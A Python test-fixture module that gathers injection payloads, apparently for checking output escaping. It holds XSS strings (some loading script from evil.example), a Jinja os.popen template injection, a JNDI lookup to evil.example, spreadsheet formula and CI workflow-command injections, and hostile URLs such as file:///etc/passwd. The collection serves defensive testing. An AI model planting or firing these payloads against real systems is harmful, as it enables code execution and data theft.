"""Texts that would run as script, template, formula or command if any part of the way forgot to escape them.

Our own, after the kinds that public lists know. Whatever runs sets `window.__ran` or calls a function that the
browser's test has replaced. No digits, so that the check of numbers has nothing to say.
"""

from __future__ import annotations

RUN = "window.__ran=true"

_TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "iframe",
    "input",
    "details",
    "object",
    "embed",
    "marquee",
    "select",
    "math",
    "style",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onpointerenter",
    "onanimationstart",
    "onbegin",
    "onstart",
)
_BREAKOUTS = ('"', "'", "`", "</title>", "</textarea>", "</style>", "</script>", "</svg>", "-->", "]]>", "</template>",
              "</noscript>", "</a>", "</h>", "<!--", "<![CDATA[", "</option></select>", "</table>", "</p></main>")  # fmt: skip

SCRIPTS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\n>".replace("\n", " "),
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example></script>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import'https://evil.example/x.css'</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='url=https://evil.example/'>",
    f"<meta http-equiv=refresh content='url=javascript:{RUN}'>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<button form=x formaction=javascript:{RUN}>go</button>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=s></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>go</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math href=javascript:{RUN}>go</math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<textarea><img src=x onerror={RUN}></textarea>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe srcdoc='<img src=x onerror=parent.{RUN}>'></iframe>",
    f"<a href=javascript:{RUN}>go</a>",
    f"<a href='java\tscript:{RUN}'>go</a>".replace("\t", "&Tab;"),
    f"<a href=data:text/html,<script>{RUN}</script>>go</a>",
    f"<a href=vbscript:{RUN}>go</a>",
    f"<a onclick={RUN}>go</a>",
    f"<a autofocus tabindex onfocus={RUN}>go</a>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\\u003cimg src=x onerror={RUN}\\u003e".replace("003", "ooz"),
    f"＜img src=x onerror={RUN}＞",
    f"‹script›{RUN}‹/script›",
    f"<img src=x:x onerror={RUN}//>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=`x` onerror=`{RUN}`>",
    f"<img src=x onerror={RUN} <!--",
    f"<image src=x onerror={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<x onclick={RUN}>go</x>",
    f"<x contenteditable onblur={RUN}>go</x>",
    "<x is=fb-x style=position:fixed;inset:auto>over the page</x>",
    "<form><input name=attributes><input name=children></form>",
    "<a id=__md_scope></a><a name=defaultView></a>",
    "<img name=getElementById><img name=currentScript>",
    "<portal src=https://evil.example/></portal>",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus>go</button></form></dialog>",
    f"<x popover onbeforetoggle={RUN}>go</x>",
)
"""Whole elements."""

TEMPLATES: tuple[str, ...] = (
    "{{ config }}", "{{ [].__class__.__mro__ }}", "{% raw %}{{ x }}{% endraw %}", "{% include 'main.html' %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{# gone #}", "{%- for x in range -%}x{%- endfor -%}",
    "${jndi:ldap://evil.example/a}", "#{RUN}", "<%= x %>", "%(name)s", "{name}", "{.__class__}", "$name",
    "!ENV HOME", ":::python", "{: onclick=x }", "[go](javascript:x)", "![x](https://evil.example/x)",
    "`code` **bold** _it_ ~~gone~~", "# heading", "> quoted", "| a | b |", "<https://evil.example/>", "[x]: javascript:y",
    "\\x", "\\", "%", "&", "&nbsp;", "&#", "*[HTML]: x", "[ ^x]: y", "+++ x", "??? note", "!!! danger",
)  # fmt: skip
"""What some template language, Markdown or format string would read as its own."""

FORMULAS: tuple[str, ...] = (
    "=cmd|' /C calc'!A", '=HYPERLINK("https://evil.example/","go")', "+SUM(A)", "-SUM(A)", "@SUM(A)", "\t=SUM(A)".strip(),
    "=IMPORTXML(A,B)", "%=x", "|=x", "＝SUM(A)", "＋x", "－x", "＠x", '"=x', ";=x", "',=x",
)  # fmt: skip
"""What a spreadsheet would compute."""

COMMANDS: tuple[str, ...] = (
    "::error::x", "::add-mask::x", "::set-output name=x::y", "::stop-commands::x", "##[error]x", "##vso[task.complete]x",
    "%0A::error::x".replace("0", "o"), "::warning file=x::y",
)  # fmt: skip
"""What a runner of workflows would obey."""


def payloads() -> tuple[str, ...]:
    """All of them, each once."""
    made = [f"<{tag} src=x {event}={RUN} autofocus open>" for tag in _TAGS for event in _EVENTS[:3]]
    made += [f"<{tag} {event}={RUN}>" for tag in _TAGS[:3] for event in _EVENTS[3:]]
    made += [f"{out}<img src=x onerror={RUN}>" for out in _BREAKOUTS]
    made += [f"{out} onmouseover={RUN} autofocus onfocus={RUN} x={out}" for out in _BREAKOUTS[:3]]
    return tuple(dict.fromkeys((*SCRIPTS, *made, *TEMPLATES, *FORMULAS, *COMMANDS)))


ADDRESSES = (
    "javascript:alert()", "JaVaScRiPt:alert()", "java\nscript:alert()", " javascript:alert()", "data:text/html,<script>x</script>",
    "vbscript:x", "file:///etc/passwd", "//evil.example/", "https:///x", "https://", "http:x", "ftp://x.example/", "blob:x",
    "https://user:word@x.example/", "https://x.example/\"onclick=x", "https://x.example/<script>", "https://x.example/{{x}}",
    "https://x.example/`x", "https://x.example\\@evil.example/", "https://x.example/\u202egpj.exe", "https://x\u200b.example/",
    "https://[::x]/", "\x01javascript:x", "https://x.example/ x", "mailto:x@x.example", "about:blank", "view-source:https://x.example/",
    "https://x.example/|x", "https://x.example/^x", "https://x.example/[x]", "https://x.example/%", "https://x.example/%zz", "https://x.example/#x#x",
    "https://x%2fy/", "https://x.example:99999/", "https://x!y.example/", "https://[::1]x/", "https://1.2.3.4.5/", "https://.x/",
)  # fmt: skip
"""Addresses that a source may not have."""
